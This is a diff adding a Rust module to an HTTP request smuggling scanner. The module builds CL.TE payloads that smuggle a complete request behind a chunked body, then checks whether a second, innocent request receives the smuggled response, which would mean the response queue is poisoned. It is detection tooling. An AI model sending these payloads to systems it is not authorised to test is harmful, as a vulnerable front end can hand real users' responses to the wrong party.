@@ -0,0 +1,305 @@
+use crate::core::diff::reflects;
+use crate::core::dryrun::{dump_payload, dump_response, dumping_payloads, print_dry_run};
+use crate::core::finding::{Confidence, Finding};
+use crate::core::ratelimit::wait_retry_after;
+use crate::core::telemetry::{probe, protocol_span};
+use crate::modules::baseline::{invalidate_baseline, share_baseline, shared_baseline};
+use crate::modules::options::{ModuleOptions, is_connect_failure};
+use crate::scanner::task::Task;
+use async_trait::async_trait;
+use riphttplib::types::protocol::HttpProtocol;
+use riphttplib::types::{ClientTimeouts, ProtocolError, Request};
+use riphttplib::{H1, Protocol, parse_target};
+use std::time::Duration;
+use tracing::Instrument;
+
+const PROBE_DELAY: Duration = Duration::from_millis(2000);
+/// Method of the smuggled request unless `--smuggle-method` is given.
+const SMUGGLE_METHOD: &str = "GET";
+
+/// Transfer-Encoding headers the back end should honor while the front end forwards by
+/// Content-Length.
+const TE_HEADERS: [&str; 2] = ["Transfer-Encoding: chunked", "Transfer-Encoding : chunked"];
+
+/// Smuggles a complete request behind a CL.TE payload. A desynced back end answers it as well,
+/// and that extra response goes to whoever sends the next request over the same back-end
+/// connection: a benign request on a second connection that gets the smuggled request's
+/// response, recognizable by its marker path, proves the response queue was poisoned.
+#[derive(Clone)]
+pub struct QueuePoisonTask {
+    options: ModuleOptions,
+}
+
+impl Default for QueuePoisonTask {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl QueuePoisonTask {
+    pub fn new() -> Self {
+        Self::with_options(ModuleOptions::default())
+    }
+
+    pub fn with_options(options: ModuleOptions) -> Self {
+        Self { options }
+    }
+
+    fn build_baseline_request(
+        target: &str,
+        timeouts: &ClientTimeouts,
+    ) -> Result<Request, ProtocolError> {
+        Ok(Request::new(target, "GET")?
+            .timeout(timeouts.clone())
+            .follow_redirects(false))
+    }
+
+    fn print_payloads(&self, target: &str, marker: &str) -> Result<(), ProtocolError> {
+        let baseline = self.options.render_baseline(target)?;
+        let mut payloads = vec![("baseline".to_string(), baseline)];
+        let attacks = self.build_attack_requests(target, marker)?;
+        payloads.extend(
+            self.options
+                .probe_order(target, attacks.len())
+                .into_iter()
+                .map(|i| (format!("poison {}", i + 1), attacks[i].clone())),
+        );
+        print_dry_run(target, "QueuePoison", &payloads);
+        Ok(())
+    }
+
+    /// Payloads smuggling a complete request for `/<marker>`.
+    fn build_attack_requests(
+        &self,
+        target: &str,
+        marker: &str,
+    ) -> Result<Vec<String>, ProtocolError> {
+        let target = parse_target(target)?;
+        let mut payloads = Vec::with_capacity(TE_HEADERS.len());
+
+        let path = format!("{}?cb=bbscan&nxoec=kmceo", target.path());
+        let authority = self.options.authority(target.authority());
+        let user_agent = self.options.user_agent();
+        let correlation = self.options.correlation_line();
+        let smuggle_method = self.options.sub_request_method(SMUGGLE_METHOD);
+
+        // Complete, unlike the other modules' prefixes, so the back end answers it on its own.
+        let smug = format!(
+            "\
+            {smuggle_method} /{marker} HTTP/1.1\r\n\
+            Host: {authority}\r\n\
+            {correlation}\
+            \r\n"
+        );
+        let body = format!("0\r\n\r\n{smug}");
+        let len = body.len();
+
+        for te in TE_HEADERS {
+            payloads.push(format!(
+                "\
+                POST {path} HTTP/1.1\r\n\
+                Host: {authority}\r\n\
+                User-Agent: {user_agent}\r\n\
+                {correlation}\
+                Content-Type: application/x-www-form-urlencoded\r\n\
+                Content-Length: {len}\r\n\
+                {te}\r\n\
+                \r\n\
+                {body}"
+            ));
+        }
+
+        Ok(payloads)
+    }
+}
+
+impl QueuePoisonTask {
+    async fn scan_path(&self, target: String) -> Result<String, ProtocolError> {
+        let timeouts = self.options.timeouts();
+        let client = H1::timeouts(timeouts.clone());
+
+        if self.options.dry_run {
+            self.print_payloads(&target, &self.options.marker("rqp", 12, &target))?;
+            return Ok(String::new());
+        }
+
+        let Ok(proxy) = self.options.select_proxy(&target) else {
+            return Ok(String::new());
+        };
+        let mut jitter = self.options.jitter_for(&target);
+
+        let baseline_res = match shared_baseline(&target) {
+            Some(response) => response,
+            None => {
+                jitter.sleep().await;
+                self.options
+                    .warm_up(&target, async || {
+                        client
+                            .send_request(self.options.prepare(
+                                Self::build_baseline_request(&target, &timeouts)?,
+                                proxy.as_deref(),
+                            )?)
+                            .await
+                    })
+                    .await;
+                if dumping_payloads() {
+                    dump_payload(
+                        &target,
+                        "QueuePoison",
+                        "baseline",
+                        &self.options.render_baseline(&target)?,
+                    );
+                }
+                let baseline = self
+                    .options
+                    .first_baseline(&target, async || {
+                        client
+                            .send_request(self.options.prepare(
+                                Self::build_baseline_request(&target, &timeouts)?,
+                                proxy.as_deref(),
+                            )?)
+                            .await
+                    })
+                    .await;
+                self.options.report_proxy(proxy.as_deref(), &baseline);
+                let baseline_res = self.options.cap_body(baseline?);
+                dump_response(&target, "QueuePoison", "baseline", &baseline_res);
+                let Some(baseline_res) = self
+                    .options
+                    .settle_baseline(&target, "QueuePoison", baseline_res, async || {
+                        client
+                            .send_request(self.options.prepare(
+                                Self::build_baseline_request(&target, &timeouts)?,
+                                proxy.as_deref(),
+                            )?)
+                            .await
+                    })
+                    .await
+                else {
+                    return Ok(String::new());
+                };
+                share_baseline(&target, &baseline_res);
+                baseline_res
+            }
+        };
+
+        if self
+            .options
+            .skip_baseline_status
+            .contains(&baseline_res.status)
+        {
+            return Ok(String::new());
+        }
+
+        let probes = self.options.probes.max(1);
+        let mut consecutive_errors = 0;
+        for number in self.options.probe_order(&target, TE_HEADERS.len()) {
+            for i in 0..probes {
+                // Every probe smuggles its own marker, so an echo can't come from an earlier one.
+                let marker =
+                    self.options
+                        .marker("rqp", 12, &format!("{}#{}#{}", target, number, i));
+                let req = self.build_attack_requests(&target, &marker)?.remove(number);
+
+                jitter.sleep().await;
+                if dumping_payloads() {
+                    dump_payload(
+                        &target,
+                        "QueuePoison",
+                        &format!("poison {} probe {}", number + 1, i + 1),
+                        &req,
+                    );
+                }
+                match probe(
+                    format_args!("poison {} probe {}", number + 1, i + 1),
+                    client.send_raw(&target, req.clone().into()),
+                )
+                .await
+                {
+                    Ok(response) => {
+                        dump_response(
+                            &target,
+                            "QueuePoison",
+                            format_args!("poison {} probe {}", number + 1, i + 1),
+                            &response,
+                        );
+                    }
+                    Err(err) => {
+                        if crate::is_verbose() {
+                            eprintln!("QueuePoison payload failed for {}: {}", target, err);
+                        }
+                        invalidate_baseline(&target);
+                        if !is_connect_failure(&err) {
+                            continue;
+                        }
+                        consecutive_errors += 1;
+                        if self.options.too_many_errors(&target, consecutive_errors) {
+                            return Ok(String::new());
+                        }
+                        continue;
+                    }
+                }
+
+                // A fresh connection: the stray response sits on the front end's back-end
+                // connection, not on the one the payload went over.
+                let res = match probe(
+                    format_args!("victim {} probe {}", number + 1, i + 1),
+                    client.send_request(self.options.prepare(
+                        Self::build_baseline_request(&target, &timeouts)?,
+                        proxy.as_deref(),
+                    )?),
+                )
+                .await
+                {
+                    Ok(res) => self.options.cap_body(res),
+                    Err(_) => return Ok(String::new()),
+                };
+                // the target still answers, so earlier payload failures weren't about reaching it
+                consecutive_errors = 0;
+                dump_response(
+                    &target,
+                    "QueuePoison",
+                    format_args!("victim {} probe {}", number + 1, i + 1),
+                    &res,
+                );
+
+                if reflects(&res, &marker) {
+                    invalidate_baseline(&target);
+                    let finding = Finding::new(
+                        &target,
+                        "QueuePoison",
+                        format!(
+                            "[!] {} response queue poisoned: the next request got the response to /{} (status {}, baseline {}) payload {}",
+                            target, marker, res.status, baseline_res.status, req
+                        ),
+                    )
+                    .with_payload(req.as_str())
+                    .with_marker(Some(&marker))
+                    .with_confidence(Confidence::High)
+                    .with_baseline(&baseline_res)
+                    .with_response(&res);
+                    return Ok(self.options.report(finding).unwrap_or_default());
+                }
+
+                wait_retry_after(&target, &res).await;
+                tokio::time::sleep(PROBE_DELAY).await;
+            }
+        }
+
+        Ok(String::new())
+    }
+}
+
+#[async_trait(?Send)]
+impl Task for QueuePoisonTask {
+    type Error = ProtocolError;
+
+    async fn execute(&self, target: String) -> Result<String, Self::Error> {
+        self.options
+            .scan_paths(&target, |target| {
+                self.scan_path(target)
+                    .instrument(protocol_span("QueuePoison", HttpProtocol::Http1))
+            })
+            .await
+    }
+}